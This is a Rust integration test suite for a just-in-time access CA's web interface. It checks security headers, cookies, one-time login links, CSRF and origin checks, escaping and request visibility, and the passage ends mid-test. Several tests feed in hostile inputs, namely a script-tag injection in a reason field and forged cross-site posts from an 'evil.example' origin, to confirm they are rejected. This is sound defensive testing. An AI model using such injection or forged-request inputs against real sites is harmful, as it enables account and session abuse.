//! The web pages (issue 16) through the real router, in process, with the injected clock:
//! the login page without a session, the security headers, the cookie, the same-origin and
//! CSRF checks, escaping, and each page's content and visibility.

use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode, header};
use jit_test_kit::harness::*;
use serde_json::{Value, json};

const CSP: &str = "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self'; \
                   frame-ancestors 'none'; base-uri 'none'";

/// The kit's roles, eve as auditor, and a role whose approvals need the key itself.
fn policy() -> String {
    format!(
        "auditors = [\"eve\"]\n{POLICY}
[roles.keyed]
hosts = [\"k-*\"]
max_duration = \"1h\"
requesters = [\"group:dev\"]
approvers = [\"group:dba\"]
require_reason = false
approve_with_key = true
"
    )
}

fn harness() -> Harness {
    Harness::with_policy(&policy())
}

/// A browser: its session cookie (`jit_session=...`) and the CSRF token of its pages.
#[derive(Debug, Clone)]
struct Browser {
    cookie: String,
    csrf: String,
    session: String,
}

struct Page {
    status: StatusCode,
    body: String,
    headers: HeaderMap,
}

impl Page {
    fn set_cookies(&self) -> Vec<String> {
        self.headers
            .get_all(header::SET_COOKIE)
            .iter()
            .map(|v| v.to_str().unwrap().to_string())
            .collect()
    }
    fn location(&self) -> &str {
        self.headers[header::LOCATION].to_str().unwrap()
    }
    /// The `name=value` of a Set-Cookie line for `name`.
    fn cookie(&self, name: &str) -> Option<String> {
        self.set_cookies()
            .into_iter()
            .find(|c| c.starts_with(&format!("{name}=")))
            .map(|c| c.split(';').next().unwrap().to_string())
    }
}

async fn send(h: &Harness, req: Request<Body>) -> Page {
    let (status, body, headers) = h.send(req).await;
    Page {
        status,
        body: String::from_utf8(body).unwrap(),
        headers,
    }
}

async fn get(h: &Harness, path: &str, cookie: Option<&str>) -> Page {
    let mut b = Request::builder().method("GET").uri(path);
    if let Some(c) = cookie {
        b = b.header(header::COOKIE, c);
    }
    send(h, b.body(Body::empty()).unwrap()).await
}

fn enc(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// A form post with extra headers.
async fn post(
    h: &Harness,
    path: &str,
    cookie: Option<&str>,
    form: &[(&str, &str)],
    extra: &[(&str, &str)],
) -> Page {
    let body = form
        .iter()
        .map(|(k, v)| format!("{}={}", enc(k), enc(v)))
        .collect::<Vec<_>>()
        .join("&");
    let mut b = Request::builder()
        .method("POST")
        .uri(path)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    if let Some(c) = cookie {
        b = b.header(header::COOKIE, c);
    }
    for (k, v) in extra {
        b = b.header(*k, *v);
    }
    send(h, b.body(Body::from(body)).unwrap()).await
}

/// The one-time login path of `user` (`jit web`).
async fn login_path(h: &Harness, user: &str) -> String {
    let (status, v) = h.call(user, "POST", "/v1/web/login", json!({})).await;
    assert_eq!(status, StatusCode::OK, "{v}");
    v["path"].as_str().unwrap().to_string()
}

fn token_of(path: &str) -> String {
    path.strip_prefix("/ui/login?token=").unwrap().to_string()
}

fn attr(body: &str, before: &str) -> String {
    let i = body
        .find(before)
        .unwrap_or_else(|| panic!("no {before} in {body}"));
    let rest = &body[i + before.len()..];
    rest[..rest.find(['"', '<']).unwrap()].to_string()
}

/// A login link opened in a browser: the confirm page's `jit_login` nonce cookie and its
/// form's fields.
struct Opened {
    cookie: String,
    token: String,
    nonce: String,
}

impl Opened {
    fn form(&self) -> [(&str, &str); 2] {
        [("token", &self.token), ("nonce", &self.nonce)]
    }
}

/// GETs the login link `path` (the confirm page) as a browser does.
async fn open(h: &Harness, path: &str) -> Opened {
    let confirm = get(h, path, None).await;
    assert_eq!(confirm.status, StatusCode::OK, "{}", confirm.body);
    let set = confirm
        .set_cookies()
        .into_iter()
        .find(|c| c.starts_with("jit_login="))
        .unwrap();
    assert!(
        set.ends_with("; Path=/ui/login; HttpOnly; SameSite=Strict; Max-Age=60")
            || set.ends_with("; Path=/ui/login; HttpOnly; SameSite=Strict; Max-Age=60; Secure"),
        "{set}"
    );
    let nonce = attr(&confirm.body, "name=\"nonce\" value=\"");
    assert_eq!(
        confirm.cookie("jit_login").unwrap(),
        format!("jit_login={nonce}")
    );
    Opened {
        cookie: format!("jit_login={nonce}"),
        token: token_of(path),
        nonce,
    }
}

/// Logs `user` in through the pages (GET the link, POST the form).
async fn login(h: &Harness, user: &str) -> Browser {
    let path = login_path(h, user).await;
    let o = open(h, &path).await;
    let p = post(h, "/ui/login", Some(&o.cookie), &o.form(), &[]).await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    assert_eq!(p.location(), "/ui/pending");
    let cookie = p.cookie("jit_session").unwrap();
    let page = get(h, "/ui/pending", Some(&cookie)).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    Browser {
        csrf: attr(&page.body, "name=\"csrf\" value=\""),
        session: attr(&page.body, "session <code>"),
        cookie,
    }
}

async fn new_request(h: &Harness, user: &str, role: &str, reason: &str) -> String {
    let (s, v) = h.request(user, role, 1800, reason).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    v["id"].as_str().unwrap().to_string()
}

async fn show(h: &Harness, user: &str, id: &str) -> Value {
    let (s, v) = h
        .call(user, "GET", &format!("/v1/requests/{id}"), Value::Null)
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    v
}

fn records(h: &Harness, event: &str) -> Vec<Value> {
    jit_ca::admin::audit_export(&h.path())
        .unwrap()
        .into_iter()
        .filter(|r| r["event"] == event)
        .collect()
}

#[track_caller]
fn assert_secure_headers(p: &Page, what: &str) {
    let h = &p.headers;
    assert_eq!(h["content-security-policy"], CSP, "{what}");
    assert_eq!(h["referrer-policy"], "no-referrer", "{what}");
    assert_eq!(h["x-content-type-options"], "nosniff", "{what}");
    assert_eq!(h["x-frame-options"], "DENY", "{what}");
    assert!(h.contains_key("cache-control"), "{what}");
}

#[tokio::test]
async fn every_page_without_a_session_is_the_login_page_and_shows_no_request() {
    let h = harness();
    let id = new_request(&h, "alice", "db-admin", "reason-that-must-not-leak").await;
    let bob = login(&h, "bob").await;
    for cookie in [
        None,
        Some("jit_session=not-a-session".to_string()),
        Some(format!("{}; jit_session=second", bob.cookie)),
    ] {
        for path in [
            "/ui/".to_string(),
            "/ui/pending".into(),
            format!("/ui/requests/{id}"),
            "/ui/requests/r-unknown".into(),
            "/ui/access".into(),
            "/ui/mine".into(),
        ] {
            let p = get(&h, &path, cookie.as_deref()).await;
            assert_eq!(p.status, StatusCode::UNAUTHORIZED, "{path} {cookie:?}");
            assert!(p.body.contains("<main id=\"login-required\""), "{path}");
            assert!(p.body.contains("jit web"), "{path}");
            assert!(!p.body.contains(&id), "{path}: {}", p.body);
            assert!(!p.body.contains("reason-that-must-not-leak"), "{path}");
            assert!(!p.body.contains("id=\"whoami\""), "{path}");
            assert_secure_headers(&p, &path);
        }
    }
    // A cookie that is not a session is cleared.
    let p = get(&h, "/ui/pending", Some("jit_session=not-a-session")).await;
    assert!(
        p.set_cookies()
            .iter()
            .any(|c| c.starts_with("jit_session=;") && c.contains("Max-Age=0"))
    );
    // GET /ui redirects to /ui/.
    let p = get(&h, "/ui", None).await;
    assert_eq!(p.status, StatusCode::PERMANENT_REDIRECT);
    assert_eq!(p.location(), "/ui/");
    // Logged in, /ui/ goes to the pending page.
    let p = get(&h, "/ui/", Some(&bob.cookie)).await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    assert_eq!(p.location(), "/ui/pending");
}

#[tokio::test]
async fn every_ui_response_carries_the_security_headers() {
    let h = harness();
    let id = new_request(&h, "alice", "db-admin", "headers").await;
    let bob = login(&h, "bob").await;
    let c = Some(bob.cookie.as_str());
    let mut pages = vec![
        ("login page", get(&h, "/ui/pending", None).await),
        ("redirect", get(&h, "/ui", None).await),
        ("pending", get(&h, "/ui/pending", c).await),
        ("request", get(&h, &format!("/ui/requests/{id}"), c).await),
        ("access", get(&h, "/ui/access", c).await),
        ("mine", get(&h, "/ui/mine", c).await),
        ("404", get(&h, "/ui/nothing/here", c).await),
        ("unknown request", get(&h, "/ui/requests/r-none", c).await),
        (
            "405",
            get(&h, &format!("/ui/requests/{id}/approve"), c).await,
        ),
        ("bad link", get(&h, "/ui/login?token=nope", None).await),
    ];
    pages.push((
        "csrf refusal",
        post(
            &h,
            &format!("/ui/requests/{id}/deny"),
            c,
            &[("reason", "x")],
            &[],
        )
        .await,
    ));
    for (what, p) in &pages {
        assert_secure_headers(p, what);
        assert_eq!(p.headers["cache-control"], "no-store", "{what}");
    }
    let css = get(&h, "/ui/static/jit.css", None).await;
    assert_eq!(css.status, StatusCode::OK);
    assert_secure_headers(&css, "css");
    assert!(
        css.headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/css")
    );
    assert!(css.body.contains("font-family"));
    assert!(!css.body.contains("http"), "no external resources");
    // No script and no inline style anywhere.
    for (what, p) in &pages {
        assert!(!p.body.contains("<script"), "{what}");
        assert!(!p.body.contains("style="), "{what}");
        assert!(!p.body.contains("<style"), "{what}");
    }
}

#[tokio::test]
async fn login_sets_a_strict_session_cookie_and_the_link_works_once() {
    let h = harness();
    let path = login_path(&h, "bob").await;
    let token = token_of(&path);
    // The GET only shows whom it logs in, any number of times.
    for _ in 0..2 {
        let p = get(&h, &path, None).await;
        assert_eq!(p.status, StatusCode::OK);
        assert!(
            p.body.contains("Log in as <strong>bob</strong>"),
            "{}",
            p.body
        );
        assert!(
            p.body
                .contains("<form id=\"login-form\" method=\"post\" action=\"/ui/login\">")
        );
        assert!(p.body.contains("id=\"login-submit\""));
        // Only the login nonce (no session, nothing consumed).
        assert!(p.cookie("jit_session").is_none());
    }
    let o = open(&h, &path).await;
    let p = post(&h, "/ui/login", Some(&o.cookie), &o.form(), &[]).await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    // The nonce is spent with the token.
    assert!(
        p.set_cookies()
            .iter()
            .any(|c| c.starts_with("jit_login=;") && c.contains("Max-Age=0"))
    );
    let set = p
        .set_cookies()
        .into_iter()
        .find(|c| c.starts_with("jit_session="))
        .unwrap();
    let max_age = h.ca.config().web.session_max_age_secs;
    assert!(
        set.ends_with(&format!(
            "; Path=/ui; HttpOnly; SameSite=Strict; Max-Age={max_age}"
        )),
        "{set}"
    );
    assert!(!set.contains("Secure"), "no TLS, no Secure: {set}");
    assert!(!records(&h, "web_login").is_empty());
    // Used: refused, as page and as link.
    let again = post(&h, "/ui/login", Some(&o.cookie), &o.form(), &[]).await;
    assert_eq!(again.status, StatusCode::FORBIDDEN);
    assert!(again.body.contains("<main id=\"error\""));
    assert!(again.body.contains("jit web again"), "{}", again.body);
    assert!(again.cookie("jit_session").is_none());
    let p = get(&h, &path, None).await;
    assert_eq!(p.status, StatusCode::FORBIDDEN);
    assert!(p.body.contains("<main id=\"error\""));
    // Expired: refused.
    let path = login_path(&h, "bob").await;
    h.clock.advance(61);
    let p = get(&h, &path, None).await;
    assert_eq!(p.status, StatusCode::FORBIDDEN);
    let form = [("token", token_of(&path)), ("nonce", o.nonce.clone())];
    let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let p = post(&h, "/ui/login", Some(&o.cookie), &form, &[]).await;
    assert_eq!(p.status, StatusCode::FORBIDDEN);
    let _ = token;
}

/// A harness with `table` (TOML tables) appended to config.toml.
fn harness_with_table(table: &str) -> Harness {
    harness_with("", table)
}

/// A harness with `top` (top-level keys) put first in config.toml and `table` (TOML tables)
/// appended.
fn harness_with(top: &str, table: &str) -> Harness {
    let (dir, keys) = setup_dir(&policy());
    let cfg = data_dir(&dir).join("config.toml");
    let mut text = format!("{top}{}", std::fs::read_to_string(&cfg).unwrap());
    text.push_str(table);
    std::fs::remove_file(&cfg).unwrap();
    std::fs::write(&cfg, text).unwrap();
    let clock = std::sync::Arc::new(jit_ca::clock::FixedClock::new(T0));
    let ca =
        std::sync::Arc::new(jit_ca::service::Ca::open(&data_dir(&dir), clock.clone()).unwrap());
    let app = jit_ca::api::router(ca.clone());
    Harness {
        dir,
        clock,
        ca,
        app,
        keys,
    }
}

#[tokio::test]
async fn under_tls_cookies_are_secure_and_the_origin_is_https() {
    // The router only reads whether TLS is configured (the listener, not built here, loads
    // the files).
    let h = harness_with_table("\n[tls]\ncert = \"tls/cert.pem\"\nkey = \"tls/key.pem\"\n");
    let path = login_path(&h, "bob").await;
    let o = open(&h, &path).await;
    // The plain-http origin of the same host is another origin.
    let p = post(
        &h,
        "/ui/login",
        Some(&o.cookie),
        &o.form(),
        &[("host", "ca.example"), ("origin", "http://ca.example")],
    )
    .await;
    assert_eq!(p.status, StatusCode::FORBIDDEN);
    let p = post(
        &h,
        "/ui/login",
        Some(&o.cookie),
        &o.form(),
        &[
            ("host", "ca.example"),
            ("origin", "https://ca.example"),
            ("sec-fetch-site", "same-origin"),
        ],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    let set = p.set_cookies();
    let session = set.iter().find(|c| c.starts_with("jit_session=")).unwrap();
    assert!(
        session.contains("; Path=/ui; HttpOnly; SameSite=Strict; Max-Age="),
        "{session}"
    );
    assert!(session.ends_with("; Secure"), "{session}");
    assert_eq!(p.headers["strict-transport-security"], "max-age=31536000");
    let cookie = p.cookie("jit_session").unwrap();
    let page = get(&h, "/ui/pending", Some(&cookie)).await;
    let csrf = attr(&page.body, "name=\"csrf\" value=\"");
    let p = post(&h, "/ui/logout", Some(&cookie), &[("csrf", &csrf)], &[]).await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    for c in p.set_cookies() {
        assert!(c.ends_with("; Secure"), "{c}");
    }
}

/// Behind a TLS-terminating proxy (`public_url` https, no `[tls]`): the browser is on https,
/// so the cookies are `Secure` and every /ui response pins https (HSTS); a plain-http CA
/// sends neither.
#[tokio::test]
async fn an_https_public_url_makes_cookies_secure_and_sends_hsts() {
    let h = harness_with_table("");
    let plain = login(&h, "bob").await;
    let p = get(&h, "/ui/pending", Some(&plain.cookie)).await;
    assert!(!p.headers.contains_key("strict-transport-security"));
    let h = harness_with("public_url = \"https://jit.example.com\"\n", "");
    let path = login_path(&h, "bob").await;
    let confirm = get(&h, &path, None).await;
    assert_eq!(
        confirm.headers["strict-transport-security"],
        "max-age=31536000"
    );
    let o = open(&h, &path).await;
    let p = post(
        &h,
        "/ui/login",
        Some(&o.cookie),
        &o.form(),
        &[
            ("host", "jit.example.com"),
            ("origin", "https://jit.example.com"),
            ("sec-fetch-site", "same-origin"),
        ],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    assert_eq!(p.headers["strict-transport-security"], "max-age=31536000");
    let set = p.set_cookies();
    assert!(!set.is_empty());
    for c in &set {
        assert!(c.ends_with("; Secure"), "{c}");
    }
    for what in ["/ui/", "/ui/nope", "/ui/static/jit.css"] {
        let p = get(&h, what, None).await;
        assert_eq!(
            p.headers["strict-transport-security"], "max-age=31536000",
            "{what}"
        );
    }
}

#[tokio::test]
async fn cross_site_and_token_less_posts_are_refused_and_change_nothing() {
    let h = harness();
    let id = new_request(&h, "alice", "db-admin", "csrf").await;
    let bob = login(&h, "bob").await;
    let carol = login(&h, "carol").await;
    let digest = show(&h, "alice", &id).await["request_digest"]
        .as_str()
        .unwrap()
        .to_string();
    let path = format!("/ui/requests/{id}/approve");
    let host = [("host", "ca.example:8080")];
    type Fields<'a> = Vec<(&'a str, &'a str)>;
    let cases: Vec<(&str, Fields, Fields)> = vec![
        ("no token", vec![("request_digest", &digest)], vec![]),
        (
            "wrong token",
            vec![("csrf", "AAAA"), ("request_digest", &digest)],
            vec![],
        ),
        (
            "another session's token",
            vec![("csrf", &carol.csrf), ("request_digest", &digest)],
            vec![],
        ),
        (
            "foreign origin",
            vec![("csrf", &bob.csrf), ("request_digest", &digest)],
            vec![host[0], ("origin", "http://evil.example")],
        ),
        (
            "null origin from another site",
            vec![("csrf", &bob.csrf), ("request_digest", &digest)],
            vec![
                host[0],
                ("origin", "null"),
                ("sec-fetch-site", "cross-site"),
            ],
        ),
        (
            "null origin without the token",
            vec![("csrf", "AAAA"), ("request_digest", &digest)],
            vec![host[0], ("origin", "null")],
        ),
        (
            "cross-site fetch",
            vec![("csrf", &bob.csrf), ("request_digest", &digest)],
            vec![host[0], ("sec-fetch-site", "cross-site")],
        ),
        (
            "same-site fetch",
            vec![("csrf", &bob.csrf), ("request_digest", &digest)],
            vec![
                host[0],
                ("origin", "http://ca.example:8080"),
                ("sec-fetch-site", "same-site"),
            ],
        ),
    ];
    let before = records(&h, "web_login_refused").len();
    for (what, form, extra) in &cases {
        let p = post(&h, &path, Some(&bob.cookie), form, extra).await;
        assert_eq!(p.status, StatusCode::FORBIDDEN, "{what}: {}", p.body);
        assert!(p.body.contains("<main id=\"error\""), "{what}");
        assert!(p.body.contains("csrf_rejected"), "{what}");
        assert_secure_headers(&p, what);
        let v = show(&h, "alice", &id).await;
        assert_eq!(v["state"], "pending", "{what}");
        assert_eq!(v["approvals"].as_array().unwrap().len(), 0, "{what}");
    }
    let refused = records(&h, "web_login_refused");
    assert_eq!(refused.len() - before, cases.len());
    assert!(refused.iter().all(|r| r["details"]["reason"] == "csrf"));
    // Nothing in the trail carries the cookie secret or the token.
    let secret = bob.cookie.trim_start_matches("jit_session=");
    let trail = serde_json::to_string(&jit_ca::admin::audit_export(&h.path()).unwrap()).unwrap();
    assert!(!trail.contains(secret));
    // Deny, cancel, drop and logout need the token too.
    let mine = new_request(&h, "alice", "two-man", "mine").await;
    let alice = login(&h, "alice").await;
    for (path, cookie) in [
        (format!("/ui/requests/{id}/deny"), &bob.cookie),
        (format!("/ui/requests/{mine}/cancel"), &alice.cookie),
        (format!("/ui/requests/{mine}/drop"), &alice.cookie),
        ("/ui/logout".to_string(), &bob.cookie),
    ] {
        let p = post(
            &h,
            &path,
            Some(cookie),
            &[("reason", "x"), ("csrf", "bad")],
            &[],
        )
        .await;
        assert_eq!(p.status, StatusCode::FORBIDDEN, "{path}");
    }
    assert_eq!(show(&h, "alice", &mine).await["state"], "pending");
    assert_eq!(show(&h, "alice", &id).await["state"], "pending");
    // The session still works (logout was refused).
    assert_eq!(
        get(&h, "/ui/pending", Some(&bob.cookie)).await.status,
        StatusCode::OK
    );
    // Same origin (Host and Origin agree, Sec-Fetch-Site same-origin): accepted.
    let p = post(
        &h,
        &path,
        Some(&bob.cookie),
        &[("csrf", &bob.csrf), ("request_digest", &digest)],
        &[
            host[0],
            ("origin", "http://ca.example:8080"),
            ("sec-fetch-site", "same-origin"),
        ],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    assert_eq!(show(&h, "alice", &id).await["state"], "approved");
}

#[tokio::test]
async fn a_cross_site_login_post_is_refused_and_leaves_the_link_usable() {
    let h = harness();
    let path = login_path(&h, "bob").await;
    let o = open(&h, &path).await;
    let p = post(
        &h,
        "/ui/login",
        Some(&o.cookie),
        &o.form(),
        &[("host", "ca.example"), ("origin", "http://evil.example")],
    )
    .await;
    assert_eq!(p.status, StatusCode::FORBIDDEN);
    assert!(p.body.contains("csrf_rejected"));
    assert!(p.cookie("jit_session").is_none());
    let p = post(
        &h,
        "/ui/login",
        Some(&o.cookie),
        &o.form(),
        &[("sec-fetch-site", "cross-site")],
    )
    .await;
    assert_eq!(p.status, StatusCode::FORBIDDEN);
    // Another site posting a token of its own (login CSRF: log the victim in as the
    // attacker) has no jit_login cookie for this host, whatever Origin its browser sends
    // (`null` from a no-referrer page): refused, audited, the token left unused.
    let before = records(&h, "web_login_refused").len();
    let token = [("token", o.token.as_str())];
    let wrong = [("token", o.token.as_str()), ("nonce", "guessed")];
    for (what, cookie, form, extra) in [
        (
            "no cookie, no nonce",
            None,
            &token[..],
            &[("origin", "null")][..],
        ),
        ("no cookie", None, &o.form()[..], &[("origin", "null")][..]),
        ("no nonce", Some(o.cookie.as_str()), &token[..], &[][..]),
        (
            "another nonce",
            Some(o.cookie.as_str()),
            &wrong[..],
            &[][..],
        ),
    ] {
        let p = post(&h, "/ui/login", cookie, form, extra).await;
        assert_eq!(p.status, StatusCode::FORBIDDEN, "{what}");
        assert!(p.body.contains("csrf_rejected"), "{what}");
        assert!(p.body.contains("jit_login"), "{what}: {}", p.body);
        assert!(p.cookie("jit_session").is_none(), "{what}");
    }
    assert_eq!(records(&h, "web_login_refused").len() - before, 4);
    // Plain http on a non-loopback address: the browser sends `Origin: null` (our
    // no-referrer policy) and no Sec-Fetch-Site; with this browser's nonce it logs in.
    let p = post(
        &h,
        "/ui/login",
        Some(&o.cookie),
        &o.form(),
        &[("host", "10.0.0.1:8443"), ("origin", "null")],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    assert!(p.cookie("jit_session").is_some());
}

#[tokio::test]
async fn get_never_changes_state() {
    let h = harness();
    let id = new_request(&h, "alice", "db-admin", "get").await;
    let bob = login(&h, "bob").await;
    for action in ["approve", "deny", "cancel", "drop"] {
        let p = get(
            &h,
            &format!("/ui/requests/{id}/{action}"),
            Some(&bob.cookie),
        )
        .await;
        assert_eq!(p.status, StatusCode::METHOD_NOT_ALLOWED, "{action}");
    }
    assert_eq!(
        get(&h, "/ui/logout", Some(&bob.cookie)).await.status,
        StatusCode::METHOD_NOT_ALLOWED
    );
    let events = h.audit_events().len();
    for path in [
        "/ui/pending",
        "/ui/mine",
        "/ui/access",
        &format!("/ui/requests/{id}"),
    ] {
        assert_eq!(
            get(&h, path, Some(&bob.cookie)).await.status,
            StatusCode::OK
        );
    }
    assert_eq!(h.audit_events().len(), events, "a page view adds no record");
    let v = show(&h, "alice", &id).await;
    assert_eq!(v["state"], "pending");
    assert!(v["approvals"].as_array().unwrap().is_empty());
    assert_eq!(
        get(&h, "/ui/pending", Some(&bob.cookie)).await.status,
        StatusCode::OK
    );
}

#[tokio::test]
async fn a_reason_with_markup_renders_as_text() {
    let h = harness();
    let reason = "<script>alert(\"x\")</script> it's <b>urgent</b> & \"quoted\"";
    let id = new_request(&h, "alice", "db-admin", reason).await;
    let bob = login(&h, "bob").await;
    for path in ["/ui/pending".to_string(), format!("/ui/requests/{id}")] {
        let p = get(&h, &path, Some(&bob.cookie)).await;
        assert_eq!(p.status, StatusCode::OK);
        assert!(!p.body.contains("<script"), "{path}: {}", p.body);
        assert!(!p.body.contains("<b>urgent"), "{path}");
        assert!(
            p.body.contains("&#60;script&#62;alert(&#34;x&#34;)"),
            "{path}: {}",
            p.body
        );
        assert!(p.body.contains("it&#39;s"), "{path}");
    }
    let alice = login(&h, "alice").await;
    let p = get(&h, "/ui/mine", Some(&alice.cookie)).await;
    assert!(!p.body.contains("<script"));
}

#[tokio::test]
async fn pending_shows_only_what_the_user_may_approve() {
    let h = harness();
    let db = new_request(&h, "alice", "db-admin", "db work").await;
    h.clock.advance(1);
    let two = new_request(&h, "alice", "two-man", "prod work").await;
    h.clock.advance(1);
    let own = new_request(&h, "dave", "db-admin", "dave's own").await;
    let page = |b: Browser| {
        let h = &h;
        async move { get(h, "/ui/pending", Some(&b.cookie)).await.body }
    };
    let bob = page(login(&h, "bob").await).await;
    for id in [&db, &two, &own] {
        assert!(bob.contains(&format!("<tr id=\"req-{id}\">")), "bob {id}");
    }
    assert!(bob.contains("<table id=\"pending\">"));
    assert!(bob.contains(&format!(
        "<a class=\"request-link\" href=\"/ui/requests/{db}\">"
    )));
    assert!(bob.contains("0 of 2"), "two-man needs two");
    assert!(bob.contains("db work") && bob.contains("prod work"));
    // Newest first.
    let at = |id: &str| bob.find(&format!("req-{id}")).unwrap();
    assert!(at(&own) < at(&two) && at(&two) < at(&db), "newest first");
    let dave = page(login(&h, "dave").await).await;
    assert!(dave.contains(&db) && dave.contains(&two));
    assert!(!dave.contains(&format!("req-{own}")), "not one's own");
    let alice = page(login(&h, "alice").await).await;
    for id in [&db, &two] {
        assert!(!alice.contains(&format!("req-{id}")), "alice's own {id}");
    }
    // alice approves two-man (group dev) but it is hers; dave's db-admin is not her role.
    assert!(!alice.contains(&own));
    let eve = page(login(&h, "eve").await).await;
    assert!(
        !eve.contains("req-r-"),
        "the auditor approves nothing: {eve}"
    );
    // Expired requests are not pending any more.
    h.clock.advance(86_400 * 3);
    let bob = page(login(&h, "bob").await).await;
    assert!(!bob.contains(&db));
}

#[tokio::test]
async fn approving_through_the_form_counts_and_records_the_session() {
    let h = harness();
    let id = new_request(&h, "alice", "db-admin", "approve me").await;
    let bob = login(&h, "bob").await;
    let page = get(&h, &format!("/ui/requests/{id}"), Some(&bob.cookie)).await;
    assert!(page.body.contains("<span id=\"state\""));
    assert!(page.body.contains("<form id=\"approve-form\""));
    assert!(page.body.contains("id=\"approve-submit\""));
    assert!(page.body.contains("<form id=\"deny-form\""));
    assert!(
        !page.body.contains("id=\"cancel-form\""),
        "not bob's to cancel"
    );
    let digest = attr(&page.body, "name=\"request_digest\" value=\"");
    assert!(digest.starts_with("sha256:"));
    let p = post(
        &h,
        &format!("/ui/requests/{id}/approve"),
        Some(&bob.cookie),
        &[
            ("csrf", &bob.csrf),
            ("request_digest", &digest),
            ("reason", "looks fine"),
        ],
        &[],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    assert_eq!(p.location(), format!("/ui/requests/{id}"));
    let v = show(&h, "alice", &id).await;
    assert_eq!(v["state"], "approved");
    let rec = records(&h, "approval").pop().unwrap();
    assert_eq!(rec["actor"], "bob");
    assert_eq!(rec["details"]["session"], bob.session.as_str());
    assert_eq!(rec["details"]["evidence"]["via"], "web");
    // The next page shows the notice once, the state and the certificate.
    let flash = p.cookie("jit_flash").unwrap();
    let cookies = format!("{}; {flash}", bob.cookie);
    let next = get(&h, p.location(), Some(&cookies)).await;
    assert!(next.body.contains("id=\"notice\""), "{}", next.body);
    assert!(next.body.contains("approved"));
    assert!(
        next.body.contains("<p id=\"certificate\">serial"),
        "{}",
        next.body
    );
    assert!(next.body.contains("<table id=\"approvals\">"));
    assert!(next.body.contains("<td>bob</td>"));
    assert!(next.body.contains("<table id=\"events\">"));
    let evs: Vec<usize> = ["request", "approval", "issuance"]
        .iter()
        .filter_map(|e| next.body.find(&format!("<td>{e}</td>")))
        .collect();
    assert!(
        evs.len() >= 2 && evs.windows(2).all(|w| w[0] < w[1]),
        "events in order"
    );
    assert!(!next.body.contains("id=\"approve-form\""), "decided");
    assert!(
        next.set_cookies()
            .iter()
            .any(|c| c.starts_with("jit_flash=;"))
    );
    // A changed digest is refused with the error on the page.
    let id2 = new_request(&h, "alice", "db-admin", "second").await;
    let p = post(
        &h,
        &format!("/ui/requests/{id2}/approve"),
        Some(&bob.cookie),
        &[("csrf", &bob.csrf), ("request_digest", &digest)],
        &[],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    let next = get(
        &h,
        p.location(),
        Some(&format!(
            "{}; {}",
            bob.cookie,
            p.cookie("jit_flash").unwrap()
        )),
    )
    .await;
    assert!(next.body.contains("id=\"error\""), "{}", next.body);
    assert_eq!(show(&h, "alice", &id2).await["state"], "pending");
    assert!(!records(&h, "approval_refused").is_empty());
}

#[tokio::test]
async fn a_role_that_needs_the_key_shows_the_command() {
    let h = harness();
    let id = new_request(&h, "alice", "keyed", "").await;
    let bob = login(&h, "bob").await;
    let page = get(&h, &format!("/ui/requests/{id}"), Some(&bob.cookie)).await;
    assert!(
        page.body.contains(&format!(
            "<pre id=\"approve-command\"><code>jit approve {id}</code></pre>"
        )),
        "{}",
        page.body
    );
    assert!(!page.body.contains("id=\"approve-form\""));
    assert!(
        page.body.contains("id=\"deny-form\""),
        "deny stays possible"
    );
    let pending = get(&h, "/ui/pending", Some(&bob.cookie)).await;
    assert!(pending.body.contains(&format!("jit approve {id}")));
    let digest = show(&h, "alice", &id).await["request_digest"]
        .as_str()
        .unwrap()
        .to_string();
    let p = post(
        &h,
        &format!("/ui/requests/{id}/approve"),
        Some(&bob.cookie),
        &[("csrf", &bob.csrf), ("request_digest", &digest)],
        &[],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    assert_eq!(show(&h, "alice", &id).await["state"], "pending");
    // Deny from the page, reason required.
    let p = post(
        &h,
        &format!("/ui/requests/{id}/deny"),
        Some(&bob.cookie),
        &[("csrf", &bob.csrf), ("reason", "")],
        &[],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    assert_eq!(show(&h, "alice", &id).await["state"], "pending");
    let p = post(
        &h,
        &format!("/ui/requests/{id}/deny"),
        Some(&bob.cookie),
        &[("csrf", &bob.csrf), ("reason", "not now")],
        &[],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    let v = show(&h, "alice", &id).await;
    assert_eq!(v["state"], "denied");
    assert_eq!(
        records(&h, "denial").pop().unwrap()["details"]["session"],
        bob.session.as_str()
    );
}

#[tokio::test]
async fn request_pages_404_for_unknown_and_403_for_others() {
    let h = harness();
    let id = new_request(&h, "dave", "quick", "").await;
    let alice = login(&h, "alice").await;
    let p = get(&h, "/ui/requests/r-0000000000000000", Some(&alice.cookie)).await;
    assert_eq!(p.status, StatusCode::NOT_FOUND);
    assert!(p.body.contains("<main id=\"error\""));
    assert!(p.body.contains("id=\"whoami\""), "the frame stays");
    // alice neither requested nor approves `quick`.
    let p = get(&h, &format!("/ui/requests/{id}"), Some(&alice.cookie)).await;
    assert_eq!(p.status, StatusCode::FORBIDDEN);
    assert!(!p.body.contains("id=\"reason\""));
    // The auditor sees every request, and may not decide it.
    let eve = login(&h, "eve").await;
    let p = get(&h, &format!("/ui/requests/{id}"), Some(&eve.cookie)).await;
    assert_eq!(p.status, StatusCode::OK);
